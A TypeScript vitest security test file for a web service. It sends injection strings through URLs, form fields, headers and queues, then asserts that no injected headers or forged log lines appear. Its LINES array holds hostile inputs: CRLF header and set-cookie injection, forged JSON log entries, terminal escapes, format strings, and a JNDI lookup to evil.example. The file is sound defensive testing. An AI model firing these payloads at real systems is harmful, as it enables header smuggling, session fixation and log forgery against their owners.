import { expect, it } from "vitest";
import { heldForm } from "./attack-forms.ts";
import { type AttackWorld, csrfTokenOf, raw } from "./attack-world.ts";
import { held, opinion } from "./dialogues.ts";
import { eventually } from "./eventually.ts";
import { queuesOf } from "./queues.ts";

const MARK = "VET-9317";
/** Texts that would begin a line, a header or an entry of a log of their own, if anything let them. */
const LINES = [
  `a\r\nset-cookie: session=${MARK}\r\nx-injected: ${MARK}`,
  `a\nx-injected: ${MARK}`,
  `a\r\n\r\n<html>${MARK}`,
  `a\u2028x-injected: ${MARK}`,
  `\u001b[2J\u001b[31m${MARK}\u0007`,
  `"}\n{"level":"ERROR","message":"${MARK}","fake":true}`,
  `[nghe-dan-local-pages-http] {"level":"INFO","message":"SIGNED_IN","who":"${MARK}"}`,
  `\${jndi:ldap://evil.example/${MARK}}`,
  `%n%s%x {0} ${MARK}`,
];

export function injections(world: () => AttackWorld): void {
  const origin = () => world().product.host.urls.api;

  it("line ends in whatever an answer repeats make no header", async () => {
    const cookie = (await world().product.visitor("can-bo-phuong-1")).cookies.header(new URL(origin()));
    for (const line of LINES) {
      const text = encodeURIComponent(line);
      const paths = [
        `/${text}`,
        `/scores/${text}`,
        `/scores?x=${text}`,
        `/sign-in?to=${text}`,
        `/sign-in?to=/${text}`,
        `/en/${text}?${text}`,
        `/dialogues/${text}/correct?draft=${text}`,
        `/?unit=${text}&draft=${text}`,
        `/api/dialogues/${text}`,
      ];
      for (const path of paths)
        for (const headers of [{}, { cookie }]) {
          const answer = await raw(origin(), path, { headers });
          const told = JSON.stringify(answer.headers);
          expect({
            path,
            injected: answer.headers["x-injected"],
            told: /session=VET|x-injected"/.test(told),
          }).toEqual({
            path,
            injected: undefined,
            told: false,
          });
          expect({ path, status: answer.status }).not.toMatchObject({ status: 500 });
        }
    }
  });

  it("what is typed or sent along is in no log, and every entry of the log is one line", async () => {
    const { product } = world();
    const [api, visitor] = [await product.apiAs("can-bo-phuong-1"), await product.visitor("can-bo-phuong-1")];
    const csrf = await csrfTokenOf(visitor);
    const queues = queuesOf(product.host);
    for (const line of LINES) {
      const text = encodeURIComponent(line);
      await api.post("/api/dialogues", held({ opinions: [opinion({ content: line })] }), {
        key: crypto.randomUUID(),
      });
      await api.post("/api/dialogues", `{"unit": "${line}`, { key: crypto.randomUUID() });
      await api.post("/api/dialogues", held({ unit: line }), { key: crypto.randomUUID() });
      await api.post(`/api/cases/${text}/erasure`, { ground: line });
      await api.get(`/api/units/${text}/2023/score?${text}=${text}`);
      await visitor.post("/dialogues", {
        ...heldForm({ "plan.place": line, "opinions.0.content": line, [line]: line }),
        csrf,
      });
      await visitor.post(`/dialogues/${text}/cancel`, { csrf, token: line, version: line });
      await visitor.get(`/sign-in/callback?error=${text}&error_description=${text}&state=${text}`);
      const headers = {
        "user-agent": `x ${MARK}`,
        referer: `http://x/${MARK}`,
        "accept-language": MARK,
        "x-amzn-trace-id": MARK,
      };
      await raw(origin(), `/${text}`, { headers });
      await raw(origin(), "/api/units", { headers: { ...headers, authorization: `Bearer ${MARK}` } });
      await queues.send("submissions", `{"key":${JSON.stringify(line)}`);
      await queues.send("submissions", {
        key: crypto.randomUUID(),
        onBehalfOf: line,
        submission: held({ unit: line }),
      });
      await queues.send("submissions", { key: line, submission: line });
    }
    queues.stop();
    const entries = () => product.logged.filter((entry) => entry.includes('"level":'));
    await eventually(async () => {
      expect(entries().filter((entry) => entry.includes("RECORD_FAILED")).length).toBeGreaterThanOrEqual(
        LINES.length * 3,
      );
    });
    expect(product.logged.filter((entry) => entry.includes(MARK) || entry.includes("jndi"))).toEqual([]);
    for (const entry of entries()) {
      const [, json = ""] = /^\[[\w-]+\] (\{.*\})$/.exec(entry) ?? [];
      for (const sign of ["\r", "\n", "\u001b"]) expect(entry).not.toContain(sign);
      expect(() => JSON.parse(json)).not.toThrow();
    }
  });
}
